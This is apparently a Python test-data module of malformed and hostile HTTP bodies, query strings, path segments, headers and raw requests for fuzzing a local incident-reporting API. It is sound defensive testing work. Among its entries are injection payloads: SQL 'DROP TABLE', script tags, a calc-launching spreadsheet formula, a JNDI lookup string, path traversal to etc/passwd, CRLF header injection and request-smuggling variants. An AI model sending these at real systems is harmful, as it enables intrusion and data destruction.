"""What no honest client sends: bodies, ends of addresses, headers and whole requests, as bytes."""

import json

DEEP = b"[" * 5_000 + b"]" * 5_000
_REPORT = (
    b'{"incidents": [{"category": "brak", "where": {"point": {"lon": %s, "lat": 58.4}}, '
    b'"when": {"start": "2026-11-24T14:30"}, "note": %s}]}'
)


def _number(text: bytes) -> bytes:
    return _REPORT % (text, b'"x"')


def _note(text: bytes) -> bytes:
    return _REPORT % (b"15.6", b'"' + text + b'"')


BODIES: dict[str, bytes] = {
    "nothing": b"",
    "NaN": _number(b"NaN"),
    "Infinity": _number(b"Infinity"),
    "minus Infinity": _number(b"-Infinity"),
    "too large a float": _number(b"1e999"),
    "huge whole number": _number(b"9" * 5_000),
    "huge negative": _number(b"-" + b"9" * 400),
    "many decimals": _number(b"0." + b"1" * 5_000),
    "leading nought": _number(b"0015"),
    "hexadecimal": _number(b"0x1F"),
    "truth as number": _number(b"true"),
    "null as number": _number(b"null"),
    "text as number": _number(b'"15.6"'),
    "list as number": _number(b"[15.6]"),
    "half a pair": _note(b"\\ud800"),
    "other half": _note(b"\\udfff"),
    "pair turned": _note(b"\\udc00\\ud800"),
    "NUL escaped": _note(b"\\u0000"),
    "NUL raw": _note(b"\x00"),
    "control raw": _note(b"\x01\x1b[31m"),
    "bidi": _note("\u202eabc\u202c\u2066\u2069".encode()),
    "zero width": _note("\u200b\u200d\ufeff".encode()),
    "noncharacter": _note("\uffff\U0010ffff".encode()),
    "combining flood": _note(b"a" + "\u0301".encode() * 1_000),
    "not UTF-8": _note(b"\xff\xfe"),
    "overlong UTF-8": _note(b"\xc0\xaf\xe0\x80\xaf"),
    "surrogate as UTF-8": _note(b"\xed\xa0\x80"),
    "latin-1": _note("åäö".encode("latin-1")),
    "UTF-16": json.dumps({"incidents": []}).encode("utf-16"),
    "byte order mark": b"\xef\xbb\xbf{}",
    "deep list": DEEP,
    "deep object": b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
    "deep note": _REPORT % (b"15.6", DEEP),
    "field twice": b'{"incidents": [], "incidents": []}',
    "unknown field": b'{"incidents": [], "__proto__": {"x": 1}}',
    "empty name": b'{"": 1}',
    "list": b"[]",
    "text": b'"x"',
    "number": b"1",
    "null": b"null",
    "two documents": b"{}{}",
    "cut off": b'{"incidents": [',
    "comment": b"{/* x */}",
    "single quotes": b"{'a': 1}",
    "comma last": b'{"a": 1,}',
    "spaces": b" " * 100_000,
    "many fields": json.dumps({f"a{n}": n for n in range(5_000)}).encode(),
    "form": b"service_code=brak&lat=58.4&long=NaN",
    "form infinity": b"service_code=brak&lat=1e999&long=-inf",
    "form percent": b"service_code=%FF%FE&lat=%&long=%zz",
    "form NUL": b"service_code=brak%00&address_string=%00%00",
    "form surrogate": b"service_code=brak&lat=58&long=15&description=%ED%A0%80",
    "form brackets": b"attribute[[[]]]=1&attribute[reasons][][]=x",
    "form flood": b"&".join(b"a=1" for _ in range(5_000)),
    "multipart": b'--x\r\nContent-Disposition: form-data; name="a"; filename="../../x"\r\n\r\n1'
    b"\r\n--x--",
    "formula": _note(b"=cmd|' /C calc'!A0"),
    "script": _note(b"<script>alert(1)</script>${7*7}{{7*7}}"),
    "statement": _note(b"'; DROP TABLE incidents; --"),
    "template": _note(b"%s%n{0}{0.__class__}"),
}

TYPES: tuple[bytes, ...] = (
    b"application/json",
    b"application/x-www-form-urlencoded",
    b"application/json; charset=utf-7",
    b"multipart/form-data; boundary=x",
    b"text/plain",
    b"\xff\xfe",
    b"",
)

ENDS: tuple[bytes, ...] = (
    b"?limit=NaN", b"?limit=Infinity", b"?limit=-1", b"?limit=1e3", b"?limit=" + b"9" * 190,
    b"?limit=%D9%A1", b"?offset=99999999999999999999", b"?limit=1&limit=2", b"?limit=%00",
    b"?bbox=NaN,NaN,NaN,NaN", b"?bbox=1e999,0,1,1", b"?bbox=,,,", b"?bbox=1,2,3",
    b"?bbox=-1e308,-1e308,1e308,1e308",
    b"?bbox=" + b"1," * 60, b"?bbox-crs=http://x/../..", b"?crs=%FF", b"?datetime=../..",
    b"?datetime=0000-00-00", b"?datetime=9999-12-31T23:59:60Z/..",
    b"?datetime=0001-01-01T00:00:00%2B23:59", b"?period=2026-W46%00", b"?period=0000-W01",
    b"?period=9999-12-31/9999-12-31", b"?q=%ED%A0%80", b"?q=%00", b"?q=" + b"a" * 5_000,
    b"?text=%F0%9F%98%80" * 1, b"?kind[]=place", b"?%00=1", b"?=1", b"?&&&", b"?a;b=c",
    b"?cell=" + b"1" * 17, b"?cell=-1", b"?hot=NaN", b"?count=1e999", b"?count=" + b"9" * 190,
    b"?start_date=null", b"?start_date=2026-02-30T00:00Z", b"?page=0", b"?page_size=10000",
    b"?status=open,,closed", b"?service_request_id=" + b"," * 150, b"?api_key=%0d%0aX:1",
    b"?x=${jndi:ldap://x}", b"?x=%252e%252e",
)  # fmt: skip

PARTS: tuple[bytes, ...] = (
    b"..", b"%2e%2e", b"%2e%2e%2f%2e%2e%2fetc%2fpasswd", b"..%5c..%5cx", b"%00", b"a%00b",
    b"%c0%ae%c0%ae", b"%ff", b"%ed%a0%80", b"%e2%80%ae", b"%", b"%zz", b"a%2fb", b"//", b"/./",
    b"-1", b"0", b"1" * 17, b"9" * 400, b"NaN", b"1e999", b"null", b"__proto__", b"2026-W99",
    b"0000-W01", b"9999-W53", b"2026-13", b"2026-W46%0a", b"%D9%A1", b"a" * 6_000, b"'--", b"<b>",
    b"*", b"~", b"con", b".git", b"%7b%7d", b";x=1", b"?", b"#",
)  # fmt: skip

HEADERS: tuple[bytes, ...] = (
    b"Authorization: Bearer \xff\xfe", b"Authorization: Bearer", b"Authorization: Basic !!!",
    b"Authorization: Bearer " + b"a" * 8_000, b"Authorization: Digest x=", b"Cookie: ===;;;",
    b"Cookie: __Host-est=" + b"\xc3\xa5" * 40, b"Cookie: __Host-est=" + b"a" * 4_000,
    b"Accept: \xff", b"Accept: text/html", b"If-None-Match: \xff,*,W/", b"Range: bytes=9-1",
    b"Range: bytes=0-0,1-1,2-2", b"X-Forwarded-For: \xff, 1.1.1.1", b"Idempotency-Key: \xff",
    b"Origin: http://[", b"Sec-Fetch-Site: \xff", b"Content-Length: 5", b"Expect: 100-continue",
    b"Accept-Language: " + b"sv," * 1_000, b"X-HTTP-Method-Override: DELETE", b"TE: trailers",
)  # fmt: skip
"""A header at a time, in a GET of every address."""


def request(
    method: bytes, path: bytes, *headers: bytes, body: bytes = b"", host: bytes = b"127.0.0.1"
) -> bytes:
    """Write one request as it goes over the wire."""
    lines = [b"%s %s HTTP/1.1" % (method, path), b"Host: " + host, b"Connection: close", *headers]
    if body or method == b"POST":
        lines.append(b"Content-Length: %d" % len(body))
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


WHOLE: dict[str, bytes] = {
    "no host": b"GET /health HTTP/1.1\r\nConnection: close\r\n\r\n",
    "two hosts": request(b"GET", b"/health", b"Host: evil.example"),
    "host with path": request(b"GET", b"/health", host=b"127.0.0.1/../x"),
    "host of bytes": request(b"GET", b"/health", host=b"\xff\xfe"),
    "host too long": request(b"GET", b"/health", host=b"a" * 4_000),
    "old HTTP": b"GET /health HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n",
    "unknown HTTP": b"GET /health HTTP/9.9\r\nHost: 127.0.0.1\r\n\r\n",
    "no HTTP": b"hej\r\n\r\n",
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 40 + b"\r\n\r\n",
    "whole address": request(b"GET", b"http://evil.example/health"),
    "star": request(b"OPTIONS", b"*"),
    "CONNECT": request(b"CONNECT", b"evil.example:443"),
    "unknown method": request(b"HACK", b"/health"),
    "long method": request(b"A" * 4_000, b"/health"),
    "small letters": request(b"get", b"/health"),
    "PRI": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "upgrade": request(b"GET", b"/health", b"Upgrade: websocket", b"Connection: Upgrade",
                       b"Sec-WebSocket-Key: x", b"Sec-WebSocket-Version: 13"),
    "upgrade to HTTP/2": request(b"GET", b"/health", b"Upgrade: h2c", b"HTTP2-Settings: x"),
    "fragment": request(b"GET", b"/health#x"),
    "no slash": request(b"GET", b"health"),
    "raw letters in the path": request(b"GET", "/åäö".encode()),
    "folded header": request(b"GET", b"/health", b"X: a\r\n b"),
    "header without colon": request(b"GET", b"/health", b"hej"),
    "header without name": request(b"GET", b"/health", b": x"),
    "NUL in a header": request(b"GET", b"/health", b"X: a\x00b"),
    "many headers": request(b"GET", b"/health", *(b"X%d: y" % n for n in range(500))),
    "huge header": request(b"GET", b"/health", b"X: " + b"a" * 70_000),
    "chunks": b"POST /api/v1/reports HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
    b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
    "bad chunk": b"POST /api/v1/reports HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
    b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n",
    "chunks and length": b"POST /api/v1/reports HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    b"Content-Length: 4\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "two lengths": b"POST /api/v1/reports HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 1\r\n"
    b"Content-Length: 2\r\nConnection: close\r\n\r\n{}",
    "negative length": b"POST /api/v1/reports HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: -1\r\n"
    b"Connection: close\r\n\r\n",
    "length of letters": b"POST /api/v1/reports HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    b"Content-Length: abc\r\nConnection: close\r\n\r\n",
    "huge length": b"POST /api/v1/reports HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    b"Content-Length: 99999999999999999999\r\nConnection: close\r\n\r\n{}",
    "unknown coding": b"POST /api/v1/reports HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    b"Transfer-Encoding: gzip\r\nConnection: close\r\n\r\n{}",
    "compressed": request(b"POST", b"/api/v1/reports", b"Content-Encoding: gzip",
                          b"Content-Type: application/json", body=b"\x1f\x8b\x08\x00"),
}  # fmt: skip
